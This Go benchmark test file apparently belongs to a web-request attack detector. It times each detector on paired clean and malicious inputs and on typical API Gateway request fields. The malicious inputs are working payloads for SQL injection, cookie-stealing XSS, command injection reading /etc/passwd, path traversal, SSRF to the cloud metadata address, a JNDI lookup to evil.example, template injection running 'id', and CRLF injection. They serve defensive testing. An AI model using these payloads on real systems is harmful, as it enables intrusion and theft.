package detect

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// benchInputs are a clean and an attack value per detector.
var benchInputs = map[string][2]string{
	"sqli":      {"Please select your size", "1' UNION SELECT username, password FROM users--"},
	"xss":       {"Hello, world", `"><img src=x onerror=alert(document.cookie)>`},
	"cmdi":      {"salt & pepper", "127.0.0.1; cat /etc/passwd"},
	"traversal": {"docs/guide.html", "..%252f..%252f..%252fetc%252fpasswd"},
	"ssrf":      {"https://example.com/callback", "http://[::ffff:169.254.169.254]/latest/meta-data/"},
	"jndi":      {"${price} per unit", "${${lower:j}ndi:ldap://evil.example/a}"},
	"nosql":     {"price: $5", `{"$where": "sleep(100)"}`},
	"ssti":      {"Hi {{first_name}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
	"proto":     {"constructor function", "__proto__[isAdmin]"},
	"crlf":      {"en-US,en;q=0.9", "x%0d%0aSet-Cookie:%20a=b"},
}

func BenchmarkDetect(b *testing.B) {
	for _, name := range Names() {
		d, _ := Builtin(name)
		for i, kind := range []string{"clean", "attack"} {
			v := benchInputs[name][i]
			b.Run(name+"/"+kind, func(b *testing.B) {
				sc := NewScratch()
				in := Input{Value: v, Source: "query"}
				b.ReportAllocs()
				for b.Loop() {
					sc.Reset(v)
					d.Detect(sc, in)
				}
			})
		}
	}
}

// typicalFields are the field values of a typical API Gateway request:
// headers, query, path parameters and a small JSON body.
var typicalFields = []string{
	"text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
	"gzip, deflate, br", "en-US,en;q=0.9", "max-age=0", "application/json",
	"session=7f3a9c2e41b04d1f8a6e5c3b2d1a0f9e; theme=dark; lang=en",
	"abcdef1234.execute-api.us-east-1.amazonaws.com", "https://www.example.com/shop/cart",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Root=1-5e8f1234-abcdef0123456789abcdef01", "203.0.113.42, 198.51.100.7", "443", "https",
	"1.1 7d1a2b3c4d5e6f.cloudfront.net (CloudFront)", "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0F==",
	"?1", "document", "navigate", "same-origin", "1", "keep-alive", "no-cache", "US",
	"shoes", "42", "price_asc", "2", "24", "summer-sale",
	"/shop/items/12345", "12345", "POST", "prod",
	"Alice", "Smith", "alice.smith@example.com", "+1 555 0100", "221B Baker Street",
	"London", "NW1 6XE", "Please leave the parcel at the door, thanks!", "card", "EUR", "129.90",
	"4f9c2a1e-7b3d-4e8a-9c6f-1a2b3c4d5e6f", "2024-05-17T09:30:00Z",
}

// BenchmarkAllDetectorsPerField runs every detector on every field of a
// typical request, as the default policy does; ns/op is per request.
func BenchmarkAllDetectorsPerField(b *testing.B) {
	run := func(b *testing.B, fields []string) {
		sc := NewScratch()
		b.ReportAllocs()
		for b.Loop() {
			for _, v := range fields {
				sc.Reset(v)
				for _, d := range builtins {
					d.Detect(sc, Input{Value: v, Source: "headers"})
				}
			}
		}
		b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(fields)), "ns/field")
	}
	b.Run("typical", func(b *testing.B) { run(b, typicalFields) })
	b.Run("corpus-events", func(b *testing.B) {
		fields := corpusEventFields(b)
		if len(fields) == 0 {
			b.Skip("no corpus events")
		}
		run(b, fields)
	})
}

// corpusEventFields collects the string values and object keys of the
// shared corpus events.
func corpusEventFields(b testing.TB) []string {
	dir := corpusDir(b)
	paths, _ := filepath.Glob(filepath.Join(dir, "events", "*.json"))
	var out []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				out = append(out, k)
				walk(e)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		case string:
			out = append(out, x)
		}
	}
	for _, p := range paths {
		data, err := os.ReadFile(p)
		if err != nil {
			b.Fatalf("read %s: %v", p, err)
		}
		var v any
		if err := json.Unmarshal(data, &v); err != nil {
			b.Fatalf("parse %s: %v", p, err)
		}
		walk(v)
	}
	return out
}
